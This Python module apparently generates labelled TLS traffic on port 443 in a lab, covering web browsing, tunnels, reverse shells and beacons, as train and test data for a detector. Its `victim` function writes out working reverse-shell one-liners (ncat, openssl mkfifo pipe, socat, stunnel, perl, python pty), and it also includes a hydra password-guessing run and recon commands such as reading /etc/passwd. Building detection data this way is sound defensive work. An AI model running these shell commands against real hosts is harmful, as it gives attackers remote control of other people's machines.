# SPDX-License-Identifier: LGPL-2.1-or-later
"""What is done on port 443: web, tunnels, shells given away, beacons. `ACTIVITIES` names each with its truth.

Programs of the part `test` differ from those of `train`, so that what is measured there was not learned there.
"""

from __future__ import annotations

import random
import sys
import time
from collections.abc import Callable, Sequence
from pathlib import Path

from lab import servers, tlsserve
from lab.crowd import Activity
from lab.network import PASSWORD, SERVER, USER, Lab
from lab.people import Person, program
from lab.scenarios import SSH, TRUST
from lab.tlsserve import DROPBEAR, INNER, INNER_WEB, PROXY, SSHD, bracketed, certificate

TALK = [sys.executable, str(Path(__file__).with_name("tlstalk.py"))]
LINES = [
    ("id", "uname -a", "ls -l /", "cat /etc/passwd", "ps", "ls /home", "df -h"),
    ("whoami", "hostname", "ls -la /root", "cat /etc/hosts", "ip a", "ls /etc", "env"),
    ("pwd", "w", "ls /var/log", "cat /etc/issue", "ip route", "ss -tn", "find /home"),
]

Serve = Callable[[Lab, str], None]
Act = Callable[[Lab, str, int], None]


def key(lab: Lab) -> str:
    """Make a key once that the server's user accepts."""
    path = lab.folder / "id"
    if not path.exists():
        servers.keygen(path, "ed25519")
        servers.authorize(lab, path.with_suffix(".pub"))
    return str(path)


def nothing(_: Lab, __: str) -> None:
    """Start no server: the one that all web activities share is started before."""


def curl(*arguments: str) -> Act:
    """Fetch with curl; `@` in an argument stands for https://ADDRESS."""

    def act(lab: Lab, address: str, seed: int) -> None:
        words = [word.replace("@", f"https://{bracketed(address)}", 1) for word in arguments]
        program(lab, "curl", "-sk", *words)

    return act


def pages(*extra: str, pause: float) -> Act:
    """Fetch several pages over one connection, with pauses between them."""

    def act(lab: Lab, address: str, seed: int) -> None:
        rng = random.Random(seed)
        rate = f"{int(60 / pause)}/m"
        names = rng.choices(list(tlsserve.PAGES)[:4], k=5)
        urls = [f"https://{bracketed(address)}/{name}" for name in names]
        outs = [word for _ in urls for word in ("-o", "/dev/null")]
        program(lab, "curl", "-sk", *extra, "--rate", rate, *outs, *urls)

    return act


def upload(size: int, *extra: str) -> Act:
    """Upload a file of so many bytes by HTTP PUT."""

    def act(lab: Lab, address: str, seed: int) -> None:
        file = lab.folder / f"up-{seed}"
        file.write_bytes(bytes(size))
        program(lab, "curl", "-sk", *extra, "-T", str(file), f"https://{bracketed(address)}/up/{seed}")

    return act


def command(*words: str) -> Act:
    """Run a program; `@` stands for the address, `#` for it in brackets."""

    def act(lab: Lab, address: str, seed: int) -> None:
        line = [word.replace("@", address).replace("#", bracketed(address)) for word in words]
        program(lab, *line, expected=[0, 1, 8])

    return act


def browse_by_hand(lab: Lab, address: str, seed: int) -> None:
    """A person types an HTTP request into openssl s_client."""
    line = ["openssl", "s_client", "-quiet", "-verify_quiet", "-crlf", "-connect", f"{bracketed(address)}:443"]
    with Person(lab.client, line, seed) as person:
        person.thinks(1.5, 3)
        for text in ("GET / HTTP/1.1", "Host: lab.example", "Connection: close", ""):
            person.types(text)
        person.thinks(2, 3)
        person.interrupts()


def through(kind: str, address: str) -> str:
    """Return the ProxyCommand by which ssh goes through TLS."""
    return {
        "openssl": f"openssl s_client -quiet -verify_quiet -connect {bracketed(address)}:443",
        "openssl12": f"openssl s_client -tls1_2 -quiet -verify_quiet -connect {bracketed(address)}:443",
        "socat": f"socat - OPENSSL:{bracketed(address)}:443,verify=0",
        "ncat": f"ncat --ssl {address} 443",
    }[kind]


def ssh(kind: str, what: str, *options: str) -> Act:
    """Use OpenSSH through TLS: exec, fail, copy or type."""

    def act(lab: Lab, address: str, seed: int) -> None:
        rng = random.Random(seed)
        way = [*TRUST, "-o", f"ProxyCommand={through(kind, address)}", "-i", key(lab), *options]
        target = f"{USER}@lab"
        if what == "exec":
            program(lab, *SSH, *way, "-o", "BatchMode=yes", target, "ls -l /usr/bin | head -40")
        elif what == "fail":
            wrong = [*SSH, *TRUST, *way[2:4], *options, "-o", "BatchMode=yes", "-i", "/nonexistent"]
            program(lab, *wrong, target, "true", expected=[255])
        elif what == "copy":
            file = lab.folder / f"copy-{seed}"
            file.write_bytes(bytes(400_000))
            program(lab, "scp", "-F", "none", "-q", *SSH[3:], *way, str(file), f"{target}:f{seed}")
        else:
            with Person(lab.client, [*SSH, *way, target], seed) as person:
                for line in (*rng.sample(rng.choice(LINES), 4), "exit"):
                    person.sees(r"\$ ")
                    person.types(line)
                person.leaves()

    return act


def stunnel_client(lab: Lab, address: str) -> int:
    """Start stunnel on the client's side and return its local port."""
    port = 20_000 + int(address.replace(":", ".").rpartition(".")[2])
    config = lab.folder / f"client-{port}.conf"
    config.write_text(
        f"foreground = yes\npid =\n[lab]\nclient = yes\naccept = 127.0.0.1:{port}\nconnect = {address}:443\n"
    )
    lab.client.start("stunnel4", str(config), log=lab.folder / f"client-{port}.log")
    lab.client.await_port(port)
    return port


def ssh_stunnel(lab: Lab, address: str, seed: int) -> None:
    """OpenSSH through stunnel on both sides."""
    port = stunnel_client(lab, address)
    options = [*SSH, *TRUST, "-i", key(lab), "-o", "BatchMode=yes", "-p", str(port), f"{USER}@127.0.0.1"]
    program(lab, *options, "uptime; ls /")


def dbclient_stunnel(lab: Lab, address: str, seed: int) -> None:
    """Dropbear's client through stunnel on both sides."""
    port = stunnel_client(lab, address)
    variables = {"DROPBEAR_PASSWORD": PASSWORD}
    program(lab, "dbclient", "-y", "-y", "-p", str(port), f"{USER}@127.0.0.1", "ls /", variables=variables)


def libssh2(lab: Lab, address: str, seed: int) -> None:
    """Curl lists files by SFTP (libssh2) through stunnel."""
    port = stunnel_client(lab, address)
    program(lab, "curl", "-sk", "-u", f"{USER}:{PASSWORD}", f"sftp://127.0.0.1:{port}/etc/")


def hydra(lab: Lab, address: str, seed: int) -> None:
    """Hydra (libssh) guesses through stunnel."""
    port = stunnel_client(lab, address)
    words = lab.folder / f"words-{seed}"
    words.write_text("123456\npassword\nqwerty\n")
    line = ["hydra", "-I", "-q", "-t", "1", "-s", str(port), "-l", USER, "-P", str(words), "ssh://127.0.0.1"]
    program(lab, *line, expected=[0, 255])


def asyncssh(lab: Lab, address: str, seed: int) -> None:
    """AsyncSSH runs a command through stunnel."""
    port = stunnel_client(lab, address)
    code = (
        "import asyncio, asyncssh, sys\nasync def main():\n"
        f" async with asyncssh.connect('127.0.0.1', int(sys.argv[1]), username={USER!r}, password={PASSWORD!r}, "
        "known_hosts=None) as c:\n  await c.run('ls -l /usr')\nasyncio.run(main())\n"
    )
    program(lab, "/usr/bin/python3", "-c", code, str(port))


def behind(*words: str) -> Act:
    """Run a program against the local port of stunnel, which is `@` in its words."""

    def act(lab: Lab, address: str, seed: int) -> None:
        port = str(stunnel_client(lab, address))
        program(lab, *[word.replace("@", port) for word in words], expected=[0, 1])

    return act


def paramiko_stunnel(lab: Lab, address: str, seed: int) -> None:
    """Paramiko through stunnel on both sides."""
    port = stunnel_client(lab, address)
    code = (
        "import paramiko, sys\nt = paramiko.Transport(('127.0.0.1', int(sys.argv[1])))\nt.start_client(timeout=20)\n"
        f"t.auth_password({USER!r}, {PASSWORD!r})\ns = t.open_session()\ns.exec_command('ls -l /')\n"
        "while s.recv(9999): pass\nt.close()\n"
    )
    program(lab, "/usr/bin/python3", "-c", code, str(port))


def proxied(*extra: str, urls: int = 2, pause: float = 0) -> Act:
    """Fetch with curl through a proxy that is reached by TLS."""

    def act(lab: Lab, address: str, seed: int) -> None:
        names = random.Random(seed).choices(list(tlsserve.PAGES)[:4], k=urls)
        outs = [word for _ in names for word in ("-o", "/dev/null")]
        targets = [f"https://{INNER}:{INNER_WEB}/{name}" for name in names]
        slow = ["--rate", f"{int(60 / pause)}/m"] if pause else []
        proxy = ["--proxy", f"https://{bracketed(address)}:443", "--proxy-insecure"]
        program(lab, "curl", "-sk", *proxy, *extra, *slow, *outs, *targets)

    return act


def nested(target: str, count: int = 3, pause: float = 0.2) -> Act:
    """Fetch with Python's ssl, TLS inside TLS; target "-" without a CONNECT."""

    def act(lab: Lab, address: str, seed: int) -> None:
        program(lab, *TALK, "nested", address, "443", target, str(count), str(pause))

    return act


def curl_stunnel(lab: Lab, address: str, seed: int) -> None:
    """Curl through stunnel to an HTTPS server: TLS inside TLS without a CONNECT."""
    port = stunnel_client(lab, address)
    name = random.Random(seed).choice(list(tlsserve.PAGES)[:4])
    program(lab, "curl", "-sk", "-o", "/dev/null", f"https://127.0.0.1:{port}/{name}")


def curl_stunnel_twice(lab: Lab, address: str, seed: int) -> None:
    """Curl through stunnel and a proxy: the CONNECT is inside as well."""
    port = stunnel_client(lab, address)
    target = f"https://{INNER}:{INNER_WEB}/code.js"
    program(lab, "curl", "-sk", "--proxy", f"http://127.0.0.1:{port}", "-o", "/dev/null", target)


def listener(lab: Lab, kind: str, address: str) -> list[str]:
    """Return the command line by which a person waits for a shell."""
    pem = str(certificate(lab))
    family = "pf=ip6" if ":" in address else "pf=ip4"
    listen = f"OPENSSL-LISTEN:443,{family},bind={bracketed(address)},reuseaddr,cert={pem},verify=0"
    return {
        "ncat": ["ncat", "--ssl", "--ssl-cert", pem, "--ssl-key", pem, "-l", address, "443"],
        "openssl": ["openssl", "s_server", "-quiet", "-cert", pem, "-key", pem, "-accept", f"{bracketed(address)}:443"],
        "socat": ["socat", "-", listen],
        "raw": ["socat", "-,raw,echo=0", listen],
    }[kind]


def victim(kind: str, address: str) -> list[str]:
    """Return the command line that gives a shell away."""
    there = f"{bracketed(address)}:443"
    pipe = f"p=$(mktemp -u); mkfifo $p; /bin/sh -i <$p 2>&1 | openssl s_client -quiet -connect {there} >$p 2>/dev/null"
    return {
        "ncat": ["ncat", "--ssl", "-e", "/bin/bash", address, "443"],
        "openssl": ["sh", "-c", pipe],
        "socat": ["socat", f"OPENSSL:{there},verify=0", "EXEC:/bin/bash -i,stderr"],
        "pty": ["socat", f"OPENSSL:{there},verify=0", "EXEC:bash -i,pty,stderr,setsid,sigint,sane"],
        "python": [*TALK, "shell", address, "443"],
        "stunnel": ["sh", "-c", f"printf 'foreground=yes\\npid=\\nclient=yes\\nconnect={address}:443\\n"
                    "exec=/bin/bash\\nexecArgs=bash -i\\n' | exec stunnel4 -fd 0"],
        "perl": ["ncat", "--ssl", "-c", "perl -e 'while (<STDIN>) { print STDOUT `$_ 2>&1`; $| = 1 }'", address, "443"],
        "script": ["socat", f"OPENSSL:{there},verify=0", "EXEC:script -qc sh /dev/null,stderr,setsid"],
        "pythonpty": ["ncat", "--ssl", "-c", "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'", address, "443"],
    }[kind]


def reverse(kind: str, gives: str, count: int = 5) -> Act:
    """A person waits, and types to the shell that comes."""

    def act(lab: Lab, address: str, seed: int) -> None:
        rng = random.Random(seed)
        with Person(lab.server, listener(lab, kind, address), seed) as person:
            time.sleep(1.5)
            lab.client.start("env", "HOME=/root", "TERM=xterm", *victim(gives, address))
            person.thinks(2, 5)
            for line in rng.sample(rng.choice(LINES), count):
                person.types(line)
                person.thinks(0.3, 4)
            person.types("exit")
            person.thinks(1, 2)
            person.interrupts()

    return act


def script_beacon(lab: Lab, address: str, seed: int) -> None:
    """A shell script that writes to one openssl s_client, sleeping between."""
    script = (
        "{ for i in 1 2 3 4 5 6 7 8; do printf '\\000\\000\\001\\000'; head -c 256 /dev/urandom; "
        "sleep $((3 + RANDOM % 4)); done; } | openssl s_client -quiet -no_ign_eof -verify_quiet -connect "
        f"{bracketed(address)}:443 >/dev/null"
    )
    program(lab, "bash", "-c", script, expected=[0, 1])


def talk(*words: str) -> Act:
    """Run a client of tlstalk.py; `@` is the address."""

    def act(lab: Lab, address: str, seed: int) -> None:
        program(lab, *TALK, words[0], address, "443", *words[1:])

    return act


def to(start: Callable[..., None], port: int, more: str = "") -> Serve:
    """Start a TLS front before a port of the server."""

    def serve(lab: Lab, address: str) -> None:
        host = SERVER if port in (SSHD, DROPBEAR) else INNER
        start(lab, address, f"{host}:{port}", *([more] if more else []))

    return serve


def scripted(kind: str) -> Serve:
    """Start a server of tlstalk.py."""
    return lambda lab, address: tlsserve.scripted(lab, address, kind)


def _many(part: str, label: str, rows: Sequence[tuple[str, Serve, Act]], **more: bool) -> list[Activity]:
    labels = (label,) if label else ()
    return [Activity(name, serve, act, labels, part, **more) for name, serve, act in rows]


S, H, C, N = tlsserve.stunnel, tlsserve.haproxy, tlsserve.socat, tlsserve.ncat
AGENT = ("-A", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36")
TWELVE = ("--tls-max", "1.2")
WEB = [
    *_many("train", "", [
        ("page-h2", nothing, curl("@/")),
        ("page-h1", nothing, curl("--http1.1", "@/", "@/style.css")),
        ("page-12", nothing, curl(*TWELVE, *AGENT, "@/code.js")),
        ("objects-h2", nothing, curl(*AGENT, "-Z", "-o", "/dev/null", "@/photo.jpg", "-o", "/dev/null", "@/style.css")),
        ("download", nothing, curl("-o", "/dev/null", "@/film.bin")),
        ("kept-h1", nothing, pages("--http1.1", *AGENT, pause=3)),
        ("kept-h2", nothing, pages(pause=4)),
        ("kept-12", nothing, pages("--http1.1", *TWELVE, pause=2)),
        ("post", nothing, curl("-d", "name=value&other=" + "x" * 300, "@/post")),
        ("chat", scripted("chat"), talk("talk", "12", "2")),
        ("by-hand", nothing, browse_by_hand),
    ]),
    *_many("test", "", [
        ("wget", nothing, command("wget", "-q", "--no-check-certificate", "-O", "/dev/null", "https://#/code.js")),
        ("urllib", nothing, command("/usr/bin/python3", "-c", "import ssl, urllib.request as u\n"
            "for p in ('', 'style.css', 'photo.jpg'):\n"
            " u.urlopen('https://#/' + p, context=ssl._create_unverified_context()).read()")),
        ("kept-test", nothing, pages(*AGENT, "--http1.1", pause=5)),
        ("kept-h2-test", nothing, pages(*AGENT, *TWELVE, pause=3)),
        ("put-small", nothing, upload(20_000)),
        ("get-12", nothing, curl("--http1.1", *TWELVE, "-o", "/dev/null", "@/film.bin")),
        ("nghttp", nothing, command("nghttp", "-n", "--no-verify-peer", "https://#/", "https://#/code.js",
            "https://#/style.css")),
        ("chat-test", scripted("chat"), talk("talk", "6", "5")),
        ("scan", nothing, command("openssl", "s_client", "-connect", "#:443")),
    ]),
]
UPLOADS = [
    *_many("train", "tls.upload", [
        ("upload-h1", nothing, upload(3_000_000, "--http1.1")), ("upload-h2", nothing, upload(2_000_000)),
    ]),
    *_many("test", "tls.upload", [("upload-12", nothing, upload(4_000_000, *TWELVE, *AGENT))]),
]
TUNNELS = [
    *_many("train", "tls.tunnel.ssh", [
        ("ssh-stunnel-openssl", to(S, SSHD), ssh("openssl", "exec")),
        ("ssh-stunnel-12", to(S, SSHD), ssh("openssl12", "exec")),
        ("ssh-stunnel-type", to(S, SSHD), ssh("openssl", "type")),
        ("ssh-stunnel-copy", to(S, SSHD), ssh("openssl", "copy")),
        ("ssh-stunnel-fail", to(S, SSHD), ssh("openssl", "fail")),
        ("ssh-stunnel-both", to(S, SSHD), ssh_stunnel),
        ("ssh-haproxy-aes", to(H, SSHD), ssh("openssl", "exec", "-c", "aes128-ctr", "-o", "KexAlgorithms=curve25519-sha256")),
        ("dropbear-stunnel", to(S, DROPBEAR), ssh("openssl", "exec")),
    ]),
    *_many("train", "tls.tunnel.ssh", [
        ("ssh-socat", to(C, SSHD), ssh("socat", "exec")),
        ("ssh-socat-type", to(C, SSHD), ssh("socat", "type", "-c", "aes256-gcm@openssh.com")),
        ("ssh-socat-fail", to(C, SSHD), ssh("socat", "fail")),
        ("ssh-ncat", to(N, SSHD), ssh("ncat", "exec", "-C")),
        ("ssh-haproxy-12", to(H, SSHD, "ssl-max-ver TLSv1.2"), ssh("ncat", "copy", "-c", "aes128-gcm@openssh.com")),
        ("paramiko", to(S, SSHD), paramiko_stunnel),
        ("dropbear-socat", to(C, DROPBEAR), ssh("socat", "type")),
        ("dbclient", to(S, SSHD), dbclient_stunnel),
    ]),
    *_many("test", "tls.tunnel.ssh", [
        ("curl-sftp", to(S, SSHD), libssh2),
        ("hydra", to(H, SSHD), hydra),
        ("asyncssh", to(H, SSHD, "ssl-max-ver TLSv1.2"), asyncssh),
        ("nginx-exec", to(tlsserve.stream, SSHD), ssh("openssl", "exec", "-o", "KexAlgorithms=ecdh-sha2-nistp256")),
        ("nginx-type", to(tlsserve.stream, SSHD), ssh("ncat", "type", "-o", "Ciphers=aes256-ctr")),
        ("nginx-fail", to(tlsserve.stream, DROPBEAR), ssh("ncat", "fail")),
        ("dbclient-nginx", to(tlsserve.stream, DROPBEAR), dbclient_stunnel),
        ("ssh-12-copy", to(tlsserve.stream, SSHD), ssh("openssl12", "copy", "-o", "MACs=hmac-sha2-512", "-c", "aes128-ctr")),
    ]),
    *_many("test", "tls.tunnel.tls", [
        ("wget-bare", to(H, INNER_WEB), behind("wget", "-q", "--no-check-certificate", "-O", "/dev/null",
            "https://127.0.0.1:@/code.js")),
        ("urllib-bare", to(tlsserve.stream, INNER_WEB), behind("/usr/bin/python3", "-c",
            "import ssl, urllib.request as u\n"
            "u.urlopen('https://127.0.0.1:@/style.css', context=ssl._create_unverified_context()).read()")),
        ("urllib-proxy", to(S, PROXY), behind("/usr/bin/python3", "-c", "import ssl, urllib.request as u\n"
            "h = u.HTTPSHandler(context=ssl._create_unverified_context())\n"
            "o = u.build_opener(u.ProxyHandler({'https': 'http://127.0.0.1:@'}), h)\n"
            "for p in ('', 'code.js'): o.open(f'https://127.0.0.1:9443/{p}').read()")),
        ("openssl-proxy", to(tlsserve.stream, PROXY), behind("sh", "-c", "printf 'GET / HTTP/1.0\\r\\n\\r\\n' | "
            "openssl s_client -quiet -no_ign_eof -proxy 127.0.0.1:@ -connect 127.0.0.1:9443")),
        ("curl-nginx", to(tlsserve.stream, PROXY), proxied(*AGENT, urls=3)),
        ("curl-nginx-13", to(tlsserve.stream, PROXY), proxied("--tlsv1.3", "--http1.1", urls=1)),
        ("gnutls-bare", to(tlsserve.stream, INNER_WEB), behind("sh", "-c", "printf 'GET / HTTP/1.0\\r\\n\\r\\n' | "
            "gnutls-cli --insecure -p @ 127.0.0.1")),
    ]),
    *_many("train", "tls.tunnel.tls", [
        ("curl-stunnel", to(S, PROXY), proxied()),
        ("curl-stunnel-h1", to(S, PROXY), proxied("--http1.1", *AGENT, urls=4)),
        ("curl-haproxy", to(H, PROXY), proxied(*AGENT)),
        ("curl-haproxy-12", to(H, PROXY), proxied(*TWELVE, "--proxy-tlsv1", urls=1)),
        ("curl-kept", to(S, PROXY), proxied("--http1.1", urls=3, pause=2)),
        ("curl-front-12", to(S, PROXY, "sslVersionMax = TLSv1.2"), proxied()),
        ("curl-inner-12", to(S, PROXY), proxied(*TWELVE)),
        ("stunnel-bare", to(S, INNER_WEB), curl_stunnel),
    ]),
    *_many("train", "tls.tunnel.tls", [
        ("squid", lambda lab, address: tlsserve.squid(lab, address), proxied("--http1.1")),
        ("nghttpx", lambda lab, address: tlsserve.nghttpx(lab, address), proxied()),
        ("python-socat", to(C, PROXY), nested(f"{INNER}:{INNER_WEB}")),
        ("python-bare", to(C, INNER_WEB), nested("-")),
        ("python-haproxy-12", to(H, PROXY, "ssl-max-ver TLSv1.2"), nested(f"{INNER}:{INNER_WEB}", 2, 1.5)),
        ("ncat-bare", to(N, INNER_WEB), curl_stunnel),
        ("stunnel-twice", to(S, PROXY), curl_stunnel_twice),
    ]),
]
SHELLS = [
    *_many("train", "tls.reverse_shell", [
        ("reverse-ncat", nothing, reverse("ncat", "ncat")),
        ("reverse-ncat-2", nothing, reverse("ncat", "ncat", 4)),
        ("reverse-openssl", nothing, reverse("openssl", "openssl")),
        ("reverse-ncat-openssl", nothing, reverse("ncat", "openssl", 6)),
        ("reverse-pty", nothing, reverse("raw", "pty", 4)),
    ]),
    *_many("test", "tls.reverse_shell", [
        ("reverse-stunnel", nothing, reverse("ncat", "stunnel")),
        ("reverse-openssl-socat", nothing, reverse("openssl", "socat", 4)),
        ("reverse-perl", nothing, reverse("ncat", "perl", 6)),
        ("reverse-script", nothing, reverse("raw", "script", 3)),
        ("reverse-python-ncat", nothing, reverse("ncat", "pythonpty", 5)),
    ]),
    *_many("train", "tls.reverse_shell", [
        ("reverse-socat", nothing, reverse("socat", "socat")),
        ("reverse-socat-ncat", nothing, reverse("socat", "ncat", 4)),
        ("reverse-python", nothing, reverse("socat", "python")),
        ("reverse-openssl-python", nothing, reverse("openssl", "python", 6)),
        ("reverse-raw-pty", nothing, reverse("raw", "pty", 3)),
    ]),
]
BEACONS = [
    *_many("train", "tls.beacon", [
        ("beacon-raw", scripted("beacon"), talk("call", "9", "5", "0.3", "180")),
        ("beacon-large", scripted("beacon"), talk("call", "8", "6", "0.2", "700")),
        ("beacon-poll", nothing, talk("poll", "9", "5", "0.4", "/post")),
    ]),
    *_many("test", "tls.beacon", [
        ("beacon-script", scripted("beacon"), script_beacon),
        ("beacon-curl", nothing, command("curl", "-sk", "--http1.1", "--rate", "12/m", "https://#/post?[1-8]")),
        ("beacon-poll-test", nothing, talk("poll", "8", "6", "0.2", "/post")),
    ]),
]
ACTIVITIES = [*WEB, *UPLOADS, *TUNNELS, *SHELLS, *BEACONS]


def prepare(lab: Lab, plan: dict[str, Activity]) -> None:
    """Start what several activities share: the web server, and what the tunnels lead to."""
    certificate(lab)
    key(lab)
    tlsserve.inside(lab)
    shells = {activity.name for activity in SHELLS}
    web = [place for place, activity in plan.items() if activity.serve is nothing and activity.name not in shells]
    tlsserve.nginx(lab, [f"{bracketed(place)}:443" for place in web])
